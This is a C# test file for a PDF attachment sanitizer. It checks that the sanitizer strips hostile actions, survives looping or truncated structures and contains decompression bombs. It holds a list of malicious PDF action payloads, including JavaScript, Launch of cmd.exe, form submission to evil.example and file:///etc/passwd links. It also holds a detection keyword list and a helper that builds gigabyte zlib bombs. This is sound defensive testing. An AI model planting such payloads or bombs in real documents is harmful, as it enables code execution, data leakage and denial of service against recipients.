using System.IO.Compression;
using System.Text;

namespace App.Tests.Samling;

/// <summary>Broken and hostile bilag: each gets its pages, or a page that says why not, and spoils nothing else.</summary>
public sealed class HostileBilagTests : SamlingTest
{
    private static readonly string[] Actions =
    [
        "/S/JavaScript/JS(app.alert\\(1\\))", "/S/Launch/F(cmd.exe)", "/S/Launch/Win<</F(cmd.exe)/P(/c calc)>>", "/S/GoToR/F(other.pdf)/D[0/Fit]", "/S/GoToE/D[0/Fit]/T<</R/C>>",
        "/S/SubmitForm/F(https://evil.example/)", "/S/ImportData/F(a.fdf)", "/S/ResetForm", "/S/Named/N/Print", "/S/Hide/T(x)", "/S/Rendition/OP 0/JS(evil)", "/S/Sound", "/S/Movie",
        "/S/SetOCGState/State[]", "/S/Trans", "/S/Thread/D 0", "/S/GoTo3DView", "/S/RichMediaExecute", "/S/Unheard", "/S/URI/URI(javascript:evil)", "/S/URI/URI(file:///etc/passwd)",
        "/S/URI/URI(\\\\\\\\server\\\\share)", "/S/GoTo/D[0/Fit]/Next<</S/JavaScript/JS(evil)>>",
    ];

    private static readonly string[] Forbidden =
    [
        "JavaScript", "/JS", "Launch", "GoToR", "GoToE", "SubmitForm", "ImportData", "ResetForm", "/Named", "/Hide", "Rendition", "/Sound", "/Movie", "SetOCGState", "/Thread", "GoTo3DView",
        "RichMedia", "Unheard", "javascript:", "file:", "server", "evil", "cmd.exe", "/AA", "/OpenAction", "EmbeddedFile", "/AcroForm", "/Filespec", "/FT", "/XFA", "/Next",
    ];

    public static TheoryData<string> EveryAction => [.. Actions];

    [NeedsTheory("qpdf"), MemberData(nameof(EveryAction))]
    public async Task No_action_but_to_a_page_or_a_web_address_gets_through_wherever_it_hangs(string action)
    {
        var pdf = new TestPdf();
        var indirect = pdf.Add($"<<{action}>>");
        pdf.AddPage(
            "Kort",
            $$"""
            /AA<</O<<{{action}}>>/C {{indirect}} 0 R>>/Annots[
            <</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<<{{action}}>>>>
            <</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A {{indirect}} 0 R/PA {{indirect}} 0 R>>
            <</Type/Annot/Subtype/Widget/FT/Btn/T(x)/Rect[0 0 9 9]/A<<{{action}}>>/AA<</E {{indirect}} 0 R/D<<{{action}}>>>>/AP<</N {{pdf.Next + 2}} 0 R>>>>
            <</Type/Annot/Subtype/Square/Rect[0 0 9 9]/A<<{{action}}>>/AA<</E {{indirect}} 0 R>>>>
            <</Type/Annot/Subtype/Screen/Rect[0 0 9 9]/A<<{{action}}>>>>]
            """);
        pdf.AddStream("0 0 9 9 re f", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]");
        pdf.Catalog = $"/OpenAction {indirect} 0 R/AA<</WC<<{action}>>>>/Names<</JavaScript<</Names[(a)<<{action}>>]>>>>/AcroForm<</Fields[]/XFA(evil)/CO[]>>/Outlines {pdf.Next} 0 R";
        pdf.Add($"<</Type/Outlines/First {pdf.Next + 1} 0 R/Last {pdf.Next + 1} 0 R>>");
        pdf.Add($"<</Title(Linje)/Parent {pdf.Next - 1} 0 R/A<<{action}>>>>");

        var prepared = await PrepareAsync(pdf.Bytes());
        var whole = await JoinAsync(prepared);

        Assert.NotEmpty(prepared.Warnings);
        var own = Unpacked(prepared.Path!);
        foreach (var word in Forbidden)
            Assert.DoesNotContain(word, own, StringComparison.Ordinal);
        foreach (var word in Forbidden.Except(["/Next"])) // the referat's own outline
            Assert.DoesNotContain(word, Unpacked(whole), StringComparison.Ordinal);
        Assert.Contains("/Stamp", own, StringComparison.Ordinal); // the field's look
    }

    /// <summary>Where objects are packed together, qpdf reads them late.</summary>
    [NeedsFact("qpdf")]
    public async Task Actions_are_taken_out_of_packed_objects_too()
    {
        var pdf = new TestPdf();
        for (var page = 0; page < 300; page++)
        {
            var evil = pdf.Add("<</S/JavaScript/JS(evil)>>");
            var link = pdf.Add($"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A {evil} 0 R>>");
            pdf.AddPage($"Kort {page}", $"/AA<</O {evil} 0 R>>/Annots[{link} 0 R]");
        }

        pdf.Catalog = "/OpenAction<</S/JavaScript/JS(evil)>>";
        var (plain, packed) = (Put("plain.pdf", pdf.Bytes()), Path.Combine(Folder, "packed.pdf"));
        Tool.Read("qpdf", "--object-streams=generate", plain, packed);

        var prepared = await PrepareAsync(File.ReadAllBytes(packed));

        Assert.DoesNotContain("evil", Unpacked(prepared.Path!), StringComparison.Ordinal);
        Assert.DoesNotContain("evil", Unpacked(await JoinAsync(prepared)), StringComparison.Ordinal);
    }

    [NeedsFact("qpdf")]
    public async Task A_truncated_file_is_mended_or_refused_wherever_it_ends()
    {
        var pdf = TestPdf.OfPages(3);
        for (var length = 0; length < pdf.Length; length += 97)
        {
            var prepared = await PrepareAsync(pdf[..length]);
            Assert.True(prepared.Path is null ? prepared.Fault is not null : prepared.Warnings.Count > 0 || prepared.Pages == 3, $"{length}");
        }
    }

    [NeedsTheory("qpdf")]
    [InlineData("2 0 R")]
    [InlineData("4 0 R 2 0 R")]
    [InlineData("4 0 R 4 0 R 4 0 R")]
    [InlineData("99 0 R")]
    [InlineData("null")]
    [InlineData("")]
    public async Task A_page_tree_that_bites_its_tail_ends(string kids)
    {
        var pdf = new TestPdf();
        pdf.AddPage("Kort");

        var prepared = await PrepareAsync(pdf.Bytes($"<< /Type /Pages /Count 1 /MediaBox [0 0 595 842] /Kids [{kids}] >>"));

        Assert.True(prepared.Path is not null || prepared.Fault is not null);
        await JoinAsync(prepared, await PrepareAsync(TestPdf.OfPages(1)));
    }

    [NeedsFact("qpdf")]
    public async Task An_outline_and_names_that_bite_their_tails_end()
    {
        var pdf = new TestPdf();
        var page = pdf.AddPage("Kort");
        var root = pdf.Next;
        pdf.Catalog = $"/Outlines {root} 0 R/Names<</Dests {root + 2} 0 R>>";
        pdf.Add($"<</First {root + 1} 0 R/Last {root + 1} 0 R>>");
        pdf.Add($"<</Title(Rundt)/Next {root + 1} 0 R/First {root + 1} 0 R/Dest[{page} 0 R/Fit]>>");
        pdf.Add($"<</Kids[{root + 2} 0 R {root + 2} 0 R]/Names[(a)(a)]>>");

        var prepared = await PrepareAsync(pdf.Bytes());

        Assert.NotNull(prepared.Path);
        await JoinAsync(prepared);
    }

    [NeedsFact("qpdf")]
    public async Task A_stream_that_inflates_to_gigabytes_is_not_inflated()
    {
        var pdf = new TestPdf();
        var bomb = Bomb(2L << 30);
        pdf.AddPage("Kort", $"/Contents {pdf.Next + 2} 0 R");
        pdf.AddStream(bomb, "/Filter/FlateDecode");

        var prepared = await PrepareAsync(pdf.Bytes());
        var whole = await JoinUncheckedAsync(prepared);

        Assert.Null(prepared.Fault);
        Assert.InRange(new FileInfo(whole).Length, bomb.Length, bomb.Length + (1 << 20));
    }

    [NeedsFact("qpdf")]
    public async Task Objects_that_inflate_to_gigabytes_are_refused()
    {
        const int Font = 90; // it lies in the packed objects, as the table of places says
        var pdf = new TestPdf();
        var packed = pdf.AddStream(Bomb(3L << 30), "/Type/ObjStm/N 1/First 5/Filter/FlateDecode");
        var table = pdf.AddStream($"\u0002{(char)packed}\0", $"/Type/XRef/Size {Font + 1}/Index[{Font} 1]/W[1 1 1]");
        pdf.AddPage("Kort", resources: $"/Font << /F1 {Font} 0 R >>");
        pdf.Trailer = $"/XRefStm {Encoding.Latin1.GetString(pdf.Bytes()).IndexOf($"\n{table} 0 obj", StringComparison.Ordinal) + 1}";

        var prepared = await PrepareAsync(pdf.Bytes());

        Assert.True(prepared.Fault is not null || prepared.Warnings.Count > 0); // within the limits of its process, either way
    }

    [NeedsFact("qpdf", "pdftotext")]
    public async Task A_bad_bilag_leaves_the_others_as_they_are()
    {
        var bad = await PrepareAsync("%PDF-1.7 intet"u8.ToArray());

        var whole = await JoinAsync(bad, await PrepareAsync(TestPdf.OfPages(2, "Plan")));

        Assert.Equal("Filen er beskadiget og kan ikke læses som PDF.", bad.Fault);
        Assert.Contains("Bilaget kan ikke vises her. Filen er beskadiget og kan ikke læses som PDF.", TextOf(whole, 4), StringComparison.Ordinal);
        Assert.Contains("Plan 2", TextOf(whole, 6), StringComparison.Ordinal);
    }

    [NeedsFact("qpdf")]
    public async Task No_file_makes_the_program_fail()
    {
        var random = new Random(7);
        var pdf = TestPdf.OfPages(1);
        for (var i = 0; i < 40; i++)
        {
            var spoilt = pdf.ToArray();
            for (var j = 0; j < 20; j++)
                spoilt[random.Next(spoilt.Length)] = (byte)random.Next(256);
            var prepared = await PrepareAsync(spoilt);
            Assert.True(prepared.Path is not null || prepared.Fault is not null);
        }
    }

    private static string Bomb(long bytes)
    {
        using var packed = new MemoryStream();
        using (var zlib = new ZLibStream(packed, CompressionLevel.Fastest))
        {
            var zeros = new byte[1 << 20];
            for (var written = 0L; written < bytes; written += zeros.Length)
                zlib.Write(zeros);
        }

        return Encoding.Latin1.GetString(packed.ToArray());
    }
}
